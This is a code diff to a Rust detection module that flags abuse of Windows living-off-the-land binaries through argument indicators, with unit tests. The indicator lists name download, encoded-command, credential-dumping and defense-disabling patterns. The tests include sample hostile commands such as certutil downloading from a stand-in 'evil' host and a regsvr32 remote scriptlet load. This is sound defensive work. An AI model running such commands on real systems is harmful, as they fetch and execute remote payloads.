@@ -4,6 +4,10 @@
 //!
 //! LOLBins (Living-off-the-Land Binaries) là các binary hợp lệ của Windows
 //! nhưng có thể bị lợi dụng để thực thi malicious code.
+//!
+//! Tên binary thôi chưa đủ (rundll32/mshta chạy hợp lệ rất thường xuyên):
+//! mỗi LOLBin có `abuse_indicators` (URL, script extension, -enc, ...) và chỉ
+//! invocation khớp indicator mới tạo `SuspiciousSpawnAlert`.
 
 use std::collections::HashMap;
 use parking_lot::RwLock;
@@ -24,6 +28,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::Medium,
         mitre_techniques: &["T1059.003"],
         suspicious_parents: &["winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "chrome.exe", "firefox.exe"],
+        abuse_indicators: &["http://", "https://", "powershell", "mshta", "certutil", "bitsadmin", "regsvr32", "rundll32", "\\appdata\\", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "powershell.exe",
@@ -31,6 +36,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1059.001"],
         suspicious_parents: &["winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "chrome.exe", "mshta.exe"],
+        abuse_indicators: &["-e", "-ec", "-en", "-enc", "-encodedcommand", "/enc", "frombase64string", "downloadstring", "downloadfile", "net.webclient", "invoke-webrequest", "iwr ", "invoke-expression", "iex ", "iex(", "start-bitstransfer", "-w hidden", "-windowstyle hidden", "http://", "https://"],
     },
     LolbinInfo {
         name: "pwsh.exe",
@@ -38,6 +44,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1059.001"],
         suspicious_parents: &["winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe"],
+        abuse_indicators: &["-e", "-ec", "-en", "-enc", "-encodedcommand", "/enc", "frombase64string", "downloadstring", "downloadfile", "net.webclient", "invoke-webrequest", "iwr ", "invoke-expression", "iex ", "iex(", "-w hidden", "-windowstyle hidden", "http://", "https://"],
     },
     LolbinInfo {
         name: "wscript.exe",
@@ -45,6 +52,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1059.005"],
         suspicious_parents: &["winword.exe", "excel.exe", "explorer.exe", "outlook.exe"],
+        abuse_indicators: &["http://", "https://", ".jse", ".vbe", "//e:", "\\appdata\\", "\\temp\\", "\\downloads\\", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "cscript.exe",
@@ -52,6 +60,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1059.005"],
         suspicious_parents: &["winword.exe", "excel.exe", "explorer.exe"],
+        abuse_indicators: &["http://", "https://", ".jse", ".vbe", "//e:", "\\appdata\\", "\\temp\\", "\\downloads\\", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "mshta.exe",
@@ -59,6 +68,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::Critical,
         mitre_techniques: &["T1218.005"],
         suspicious_parents: &["explorer.exe", "winword.exe", "excel.exe", "cmd.exe"],
+        abuse_indicators: &["http://", "https://", "javascript:", "vbscript:", "\\appdata\\", "\\temp\\", "\\downloads\\", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "regsvr32.exe",
@@ -66,6 +76,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1218.010"],
         suspicious_parents: &["explorer.exe", "cmd.exe", "powershell.exe"],
+        abuse_indicators: &["/i:", "-i:", "scrobj.dll", "http://", "https://", "\\appdata\\", "\\temp\\", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "rundll32.exe",
@@ -73,6 +84,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1218.011"],
         suspicious_parents: &["explorer.exe", "winword.exe", "excel.exe"],
+        abuse_indicators: &["javascript:", "runhtmlapplication", "comsvcs", "minidump", "http://", "https://", "\\appdata\\", "\\temp\\", "\\downloads\\", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "certutil.exe",
@@ -80,6 +92,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1140", "T1105"],
         suspicious_parents: &["cmd.exe", "powershell.exe"],
+        abuse_indicators: &["-urlcache", "/urlcache", "-decode", "/decode", "-decodehex", "/decodehex", "-encode", "/encode", "-verifyctl", "http://", "https://"],
     },
     LolbinInfo {
         name: "bitsadmin.exe",
@@ -87,6 +100,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1197", "T1105"],
         suspicious_parents: &["cmd.exe", "powershell.exe"],
+        abuse_indicators: &["/transfer", "/addfile", "/setnotifycmdline", "http://", "https://"],
     },
     LolbinInfo {
         name: "msiexec.exe",
@@ -94,6 +108,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::Medium,
         mitre_techniques: &["T1218.007"],
         suspicious_parents: &["cmd.exe", "powershell.exe", "explorer.exe"],
+        abuse_indicators: &["http://", "https://", "/y", "/z", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "wmic.exe",
@@ -101,6 +116,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1047"],
         suspicious_parents: &["cmd.exe", "powershell.exe", "winword.exe"],
+        abuse_indicators: &["process call create", "/node:", "shadowcopy delete", "/format:"],
     },
     LolbinInfo {
         name: "msbuild.exe",
@@ -108,6 +124,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1127.001"],
         suspicious_parents: &["cmd.exe", "powershell.exe", "explorer.exe"],
+        abuse_indicators: &["\\appdata\\", "\\temp\\", "\\downloads\\", "\\users\\public\\", ".xml", ".txt"],
     },
     LolbinInfo {
         name: "installutil.exe",
@@ -115,6 +132,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1218.004"],
         suspicious_parents: &["cmd.exe", "powershell.exe"],
+        abuse_indicators: &["/logtoconsole=", "\\appdata\\", "\\temp\\", "\\downloads\\", "\\users\\public\\"],
     },
     LolbinInfo {
         name: "cmstp.exe",
@@ -122,6 +140,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::Critical,
         mitre_techniques: &["T1218.003"],
         suspicious_parents: &["cmd.exe", "powershell.exe", "explorer.exe"],
+        abuse_indicators: &["/s", "/au", "/ni", "http://", "https://"],
     },
     LolbinInfo {
         name: "schtasks.exe",
@@ -129,6 +148,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1053.005"],
         suspicious_parents: &["cmd.exe", "powershell.exe", "wscript.exe"],
+        abuse_indicators: &["powershell", "mshta", "rundll32", "regsvr32", "cmd /c", "\\appdata\\", "\\temp\\", "\\users\\public\\", "http://", "https://"],
     },
     LolbinInfo {
         name: "reg.exe",
@@ -136,6 +156,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::Medium,
         mitre_techniques: &["T1112"],
         suspicious_parents: &["cmd.exe", "powershell.exe", "wscript.exe"],
+        abuse_indicators: &["save hklm\\sam", "save hklm\\system", "save hklm\\security", "\\currentversion\\run", "image file execution options", "disableantispyware", "enablelua"],
     },
     LolbinInfo {
         name: "sc.exe",
@@ -143,6 +164,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1543.003"],
         suspicious_parents: &["cmd.exe", "powershell.exe"],
+        abuse_indicators: &["binpath=", "stop windefend", "config windefend", "delete windefend", "sdset"],
     },
     LolbinInfo {
         name: "net.exe",
@@ -150,6 +172,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::Medium,
         mitre_techniques: &["T1087", "T1201"],
         suspicious_parents: &["cmd.exe", "powershell.exe", "wscript.exe"],
+        abuse_indicators: &["/add", "localgroup administrators", "domain admins", "user /domain", "group /domain"],
     },
     LolbinInfo {
         name: "netsh.exe",
@@ -157,6 +180,7 @@ pub const LOLBINS: &[LolbinInfo] = &[
         risk_level: SpawnSeverity::High,
         mitre_techniques: &["T1562.004"],
         suspicious_parents: &["cmd.exe", "powershell.exe"],
+        abuse_indicators: &["state off", "opmode disable", "portproxy", "add helper", "allowedprogram", "key=clear"],
     },
 ];
 
@@ -191,6 +215,11 @@ pub fn get_lolbin_info(process_name: &str) -> Option<&'static LolbinInfo> {
     LOLBIN_MAP.read().get(&process_name.to_lowercase()).copied()
 }
 
+/// Argument indicator cho thấy LOLBin đang bị lạm dụng (None nếu invocation hợp lệ)
+pub fn abusive_arguments(process_name: &str, cmdline: &str) -> Option<&'static str> {
+    get_lolbin_info(process_name).and_then(|lolbin| match_abuse_indicator(lolbin, cmdline))
+}
+
 /// Kiểm tra spawn có đáng ngờ không
 pub fn check_suspicious_spawn(parent: &ProcessInfo, child: &ProcessInfo) -> Option<SuspiciousSpawnAlert> {
     let parent_name = parent.name.to_lowercase();
@@ -237,24 +266,34 @@ fn check_spawn_rules(
         ));
     }
 
-    // Rule 2: Browser spawning suspicious process
-    if is_browser(parent_name) && (is_shell(child_name) || is_lolbin(child_name)) {
+    // Argument heuristics: None = không đọc được cmdline (không kết luận được)
+    let abuse = child_lolbin.and_then(|lolbin| {
+        child.cmdline.as_deref()
+            .filter(|c| !c.trim().is_empty())
+            .map(|c| match_abuse_indicator(lolbin, c))
+    });
+    // LOLBin được coi là bị lạm dụng khi có abusive argument, hoặc khi không có cmdline để xét
+    let lolbin_abused = abuse.map(|a| a.is_some()).unwrap_or(true);
+    let indicator = abuse.flatten();
+
+    // Rule 2: Browser spawning shell / abused LOLBin
+    if is_browser(parent_name) && (is_shell(child_name) || (is_lolbin(child_name) && lolbin_abused)) {
         return Some(create_alert(
             parent, child,
-            format!("Browser {} spawned suspicious process {}", parent.name, child.name),
+            with_indicator(format!("Browser {} spawned suspicious process {}", parent.name, child.name), indicator),
             SpawnSeverity::High,
             "BROWSER_SUSPICIOUS_SPAWN",
             Some("T1189"),
         ));
     }
 
-    // Rule 3: LOLBin with suspicious parent
-    if let Some(lolbin) = child_lolbin {
+    // Rule 3: LOLBin with suspicious parent + abusive arguments
+    if let Some(lolbin) = child_lolbin.filter(|_| lolbin_abused) {
         for &suspicious_parent in lolbin.suspicious_parents {
             if parent_name.contains(suspicious_parent) {
                 return Some(create_alert(
                     parent, child,
-                    format!("LOLBin {} spawned by suspicious parent {}", child.name, parent.name),
+                    with_indicator(format!("LOLBin {} spawned by suspicious parent {}", child.name, parent.name), indicator),
                     lolbin.risk_level,
                     &format!("LOLBIN_{}", lolbin.name.to_uppercase().replace('.', "_")),
                     lolbin.mitre_techniques.first().copied(),
@@ -263,17 +302,15 @@ fn check_spawn_rules(
         }
     }
 
-    // Rule 4: Critical LOLBins (always suspicious regardless of parent)
-    if let Some(lolbin) = child_lolbin {
-        if lolbin.risk_level == SpawnSeverity::Critical {
-            return Some(create_alert(
-                parent, child,
-                format!("Critical LOLBin {} executed", child.name),
-                SpawnSeverity::High,
-                "CRITICAL_LOLBIN",
-                lolbin.mitre_techniques.first().copied(),
-            ));
-        }
+    // Rule 4: Abusive arguments (bất kể parent) - vd: certutil -urlcache, rundll32 javascript:
+    if let (Some(lolbin), Some(indicator)) = (child_lolbin, indicator) {
+        return Some(create_alert(
+            parent, child,
+            format!("LOLBin {} invoked with abusive arguments ({})", child.name, indicator),
+            lolbin.risk_level.min(SpawnSeverity::High),
+            "LOLBIN_ABUSIVE_ARGS",
+            lolbin.mitre_techniques.first().copied(),
+        ));
     }
 
     // Rule 5: Script interpreters spawned by other scripts
@@ -289,7 +326,7 @@ fn check_spawn_rules(
 
     // Rule 6: Unsigned child from signed parent (when signature info available)
     if parent.signature.is_trusted() && !child.signature.is_signed() {
-        if is_lolbin(child_name) {
+        if is_lolbin(child_name) && lolbin_abused {
             return Some(create_alert(
                 parent, child,
                 format!("Trusted process {} spawned unsigned LOLBin {}", parent.name, child.name),
@@ -303,6 +340,43 @@ fn check_spawn_rules(
     None
 }
 
+/// Indicator đầu tiên khớp với arguments (bỏ argv[0])
+fn match_abuse_indicator(lolbin: &LolbinInfo, cmdline: &str) -> Option<&'static str> {
+    let args = strip_argv0(cmdline).to_lowercase().replace('"', " ");
+    let tokens: Vec<&str> = args.split_whitespace().collect();
+    // Chuẩn hóa khoảng trắng, đệm 2 đầu để indicator dạng "iex " khớp cuối chuỗi
+    let normalized = format!(" {} ", tokens.join(" "));
+
+    lolbin.abuse_indicators.iter().copied().find(|indicator| {
+        let is_flag = indicator.starts_with(['-', '/']) && !indicator.contains(char::is_whitespace);
+        if !is_flag {
+            return normalized.contains(indicator);
+        }
+        // Flag kết thúc bằng ':' / '=' mang giá trị liền sau (vd: /i:http://..., /format:evil.xsl)
+        if indicator.ends_with([':', '=']) {
+            tokens.iter().any(|t| t.starts_with(indicator))
+        } else {
+            tokens.iter().any(|t| t == indicator)
+        }
+    })
+}
+
+/// Bỏ executable path (argv[0]) khỏi cmdline
+fn strip_argv0(cmdline: &str) -> &str {
+    let cmdline = cmdline.trim_start();
+    if let Some(rest) = cmdline.strip_prefix('"') {
+        return rest.find('"').map(|i| &rest[i + 1..]).unwrap_or("");
+    }
+    cmdline.find(char::is_whitespace).map(|i| &cmdline[i..]).unwrap_or("")
+}
+
+fn with_indicator(reason: String, indicator: Option<&str>) -> String {
+    match indicator {
+        Some(i) => format!("{} ({})", reason, i),
+        None => reason,
+    }
+}
+
 /// Helper để tạo alert
 fn create_alert(
     parent: &ProcessInfo,
@@ -466,6 +540,33 @@ mod tests {
         assert!(alert.is_none());
     }
 
+    #[test]
+    fn test_lolbin_argument_heuristics() {
+        let explorer = ProcessInfo::new(1000, "explorer.exe".to_string());
+
+        // Control panel applet qua rundll32: hợp lệ
+        let mut child = ProcessInfo::new(2000, "rundll32.exe".to_string());
+        child.cmdline = Some(r#""C:\Windows\System32\rundll32.exe" shell32.dll,Control_RunDLL desk.cpl"#.to_string());
+        assert!(check_suspicious_spawn(&explorer, &child).is_none());
+
+        // rundll32 chạy javascript: lạm dụng
+        child.cmdline = Some(r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)"#.to_string());
+        let alert = check_suspicious_spawn(&explorer, &child).unwrap();
+        assert_eq!(alert.rule_id, "LOLBIN_RUNDLL32_EXE");
+
+        // certutil -urlcache từ bất kỳ parent nào
+        let svc = ProcessInfo::new(3000, "svchost.exe".to_string());
+        let mut certutil = ProcessInfo::new(3001, "certutil.exe".to_string());
+        certutil.cmdline = Some("certutil.exe -urlcache -split -f http://evil/a.exe a.exe".to_string());
+        assert_eq!(check_suspicious_spawn(&svc, &certutil).unwrap().rule_id, "LOLBIN_ABUSIVE_ARGS");
+
+        // PowerShell: -ExecutionPolicy không phải -EncodedCommand, -enc thì có
+        assert_eq!(abusive_arguments("powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1"), None);
+        assert_eq!(abusive_arguments("powershell.exe", "powershell.exe -nop -enc SQBFAFgA"), Some("-enc"));
+        assert_eq!(abusive_arguments("mshta.exe", "mshta.exe C:\\Windows\\help.hta"), None);
+        assert_eq!(abusive_arguments("regsvr32.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll"), Some("/i:"));
+    }
+
     #[test]
     fn test_lolbin_info() {
         let info = get_lolbin_info("mshta.exe");